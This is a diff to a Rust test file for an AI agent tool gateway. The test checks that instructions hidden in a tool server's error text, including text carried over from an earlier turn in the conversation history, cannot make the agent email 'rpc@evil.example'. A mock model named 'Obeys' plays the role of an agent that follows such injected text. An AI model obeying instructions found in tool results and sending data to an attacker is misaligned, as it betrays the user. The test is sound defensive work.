@@ -817,6 +817,8 @@ async fn the_gateway_behind_oauth_serves_imported_tools_only_to_a_token_that_gra
 struct Obeys {
     first: Vec<&'static str>,
     to: &'static str,
+    /// Tool results already in the history the run starts from.
+    earlier: usize,
 }
 
 impl toolgate_llm::Model for Obeys {
@@ -834,7 +836,8 @@ impl toolgate_llm::Model for Obeys {
             .iter()
             .flat_map(|m| &m.content)
             .filter(|b| matches!(b, toolgate_llm::ContentBlock::ToolResult(_)))
-            .count();
+            .count()
+            - self.earlier;
         let call = match done {
             n if n < self.first.len() => Some((self.first[n], json!({}))),
             n if n == self.first.len() => Some(("fixture__email_send", json!({"to": self.to}))),
@@ -959,6 +962,7 @@ async fn a_servers_error_words_are_untrusted_bounded_and_taint_what_follows() {
             Arc::new(Obeys {
                 first: vec![first],
                 to,
+                earlier: 0,
             }),
             ready.dispatcher.clone(),
             ready.principal.clone(),
@@ -976,6 +980,43 @@ async fn a_servers_error_words_are_untrusted_bounded_and_taint_what_follows() {
             .expect("the model asked to send");
         assert_eq!(send.error.as_deref(), Some("forbidden"), "{send:?}");
     }
+    // A later turn of the same conversation (`chat`) learns them from the history too.
+    let failed = call(&ready, "fixture__lookup_refusing", json!({})).await;
+    let history = vec![
+        toolgate_llm::Message::user_text("look it up"),
+        toolgate_llm::Message {
+            role: toolgate_llm::Role::Assistant,
+            content: vec![toolgate_llm::ContentBlock::ToolCall(
+                toolgate_llm::ToolCall {
+                    id: "earlier".into(),
+                    name: "fixture__lookup_refusing".into(),
+                    arguments: json!({}),
+                },
+            )],
+        },
+        toolgate_llm::Message::tool_results(vec![toolgate_llm::ToolResult {
+            call_id: "earlier".into(),
+            content: failed.model_text(),
+            is_error: true,
+        }]),
+        toolgate_llm::Message::user_text("now send it"),
+    ];
+    let agent = toolgate_agent::run::Agent::new(
+        Arc::new(Obeys {
+            first: vec![],
+            to: "rpc@evil.example",
+            earlier: 1,
+        }),
+        ready.dispatcher.clone(),
+        ready.principal.clone(),
+    );
+    let run = agent.run("run-later", history).await;
+    let send = run
+        .calls
+        .iter()
+        .find(|c| c.tool == "fixture__email_send")
+        .expect("the model asked to send");
+    assert_eq!(send.error.as_deref(), Some("forbidden"), "{send:?}");
     assert!(
         fixture.calls().iter().all(|c| c["name"] != "email_send"),
         "a tainted send reached the server: {:?}",
